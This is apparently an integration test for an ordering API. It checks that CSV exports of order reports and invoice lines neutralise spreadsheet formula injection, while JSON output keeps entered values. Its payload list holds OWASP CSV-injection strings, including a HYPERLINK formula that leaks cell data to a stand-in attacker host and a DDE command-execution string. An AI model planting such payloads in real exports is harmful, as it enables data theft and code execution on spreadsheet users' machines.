import assert from 'node:assert/strict';
import { randomInt } from 'node:crypto';
import { ctx } from './support/context';
import { csvRecords } from './support/csv';
import { as, asEndUser, asOperator, registryPerson } from './support/fixtures';

/** The classic CSV-injection payloads (OWASP), typed by an end user into the company field. */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3'];
const HARMLESS = ['Vanlig AS', 'A=B & Co'];

/** A CSV export's body as text (supertest leaves text/csv unparsed only when asked). */
function csvText(res: { body: unknown; text?: string }): string {
  return Buffer.isBuffer(res.body) ? res.body.toString('utf8') : (res.text ?? String(res.body));
}

describe('CSV exports are safe to open in a spreadsheet (issue 10 part 3)', function () {
  this.timeout(60_000);
  afterEach(() => ctx().clock.reset());

  it('neutralises formula cells in every CSV (reports, invoice lines); JSON and NDJSON keep the value as entered', async () => {
    const nordlys = await as('nordlys', 'orders:read orders:write reports:read invoices:read');
    const operator = await asOperator();
    const orders: Array<{ id: string; orderNumber: string; company: string }> = [];
    for (const company of [...PAYLOADS, ...HARMLESS]) {
      const person = await registryPerson();
      const order = (
        await (
          await asEndUser(person.nationalId)
        )
          .post('/v1/order-pages/nordlys-ansatt/orders')
          .send({ email: `csv-${randomInt(1e9)}@example.no`, company, delivery: { choice: 'registered' } })
          .expect(201)
      ).body;
      assert.equal(order.company, company, 'stored as typed');
      orders.push({ id: order.id, orderNumber: order.orderNumber, company });
    }
    const byNumber = new Map(orders.map((o) => [o.orderNumber, o.company]));
    const expected = (company: string) => (/^[=+\-@\t\r]/.test(company) ? `'${company}` : company);

    // The orders report, CSV: each formula cell starts with a quote and is written quoted; the harmless ones are unchanged.
    const csv = csvText(await nordlys.get('/v1/reports/orders?format=csv').buffer(true).expect(200));
    const [header, ...rows] = csvRecords(csv);
    const number = header.indexOf('orderNumber');
    const company = header.indexOf('company');
    const ours = rows.filter((r) => byNumber.has(r[number]));
    assert.equal(ours.length, orders.length);
    for (const row of ours) assert.equal(row[company], expected(byNumber.get(row[number])!));
    for (const payload of PAYLOADS)
      assert.ok(csv.includes(`"'${payload.replaceAll('"', '""')}"`), `quoted and neutralised: ${payload}`);
    assert.match(csv.split('\n')[0], /^orderNumber,orderedAt,/, 'the header row is as before');

    // NDJSON and the JSON page keep what was typed.
    const ndjson = (await nordlys.get('/v1/reports/orders?format=ndjson').buffer(true).expect(200)).text;
    const lines = ndjson
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { orderNumber: string; company: string });
    for (const line of lines.filter((l) => byNumber.has(l.orderNumber)))
      assert.equal(line.company, byNumber.get(line.orderNumber));
    const page = (await nordlys.get('/v1/reports/orders?limit=100').expect(200)).body.data as Array<{
      orderNumber: string;
      company: string;
    }>;
    for (const row of page.filter((r) => byNumber.has(r.orderNumber)))
      assert.equal(row.company, byNumber.get(row.orderNumber));

    // Approved and shipped (issued), the cards land in the approved-orders report and on an invoice.
    for (const order of orders) {
      const card = (await nordlys.post(`/v1/orders/${order.id}/approve`).expect(200)).body.card;
      await operator
        .post(`/v1/operator/cards/${card.id}/shipment`)
        .send({ trackingNumber: 'RR222222225NO' })
        .expect(200);
    }
    const approved = csvRecords(
      csvText(await nordlys.get('/v1/reports/approved-orders').set('Accept', 'text/csv').buffer(true).expect(200)),
    );
    const approvedOurs = approved.filter((r) => byNumber.has(r[approved[0].indexOf('orderNumber')]));
    assert.equal(approvedOurs.length, orders.length);
    for (const row of approvedOurs)
      assert.equal(
        row[approved[0].indexOf('company')],
        expected(byNumber.get(row[approved[0].indexOf('orderNumber')])!),
      );

    // Invoice lines: these cards alone, moved into a month of their own (March 2040) and invoiced by the real job.
    await ctx().dataSource.query(
      `UPDATE card SET issued_at = '2040-03-15T12:00:00Z' WHERE order_id = ANY($1::uuid[])`,
      [orders.map((o) => o.id)],
    );
    ctx().clock.set(new Date('2040-04-02T10:00:00Z'));
    await operator.post('/v1/operator/jobs/invoices/runs?month=2040-03').expect(200);
    const invoice = (await nordlys.get('/v1/invoices?limit=100').expect(200)).body.data.find(
      (i: { period: string }) => i.period === '2040-03',
    );
    assert.ok(invoice, 'the March 2040 invoice');
    const invoiceCsv = csvText(
      await nordlys.get(`/v1/invoices/${invoice.id}/lines?format=csv`).buffer(true).expect(200),
    );
    const [lineHeader, ...invoiceLines] = csvRecords(invoiceCsv);
    assert.equal(invoiceLines.length, orders.length);
    const reference = lineHeader.indexOf('reference');
    const lineCompany = lineHeader.indexOf('company');
    for (const line of invoiceLines) {
      const orderNumber = [...byNumber.keys()].find((n) => line[reference].startsWith(n))!;
      assert.equal(line[lineCompany], expected(byNumber.get(orderNumber)!));
    }
    const jsonLines = (await nordlys.get(`/v1/invoices/${invoice.id}/lines`).expect(200)).body.data as Array<{
      company: string;
    }>;
    assert.deepEqual(jsonLines.map((l) => l.company).sort(), orders.map((o) => o.company).sort());
  });
});
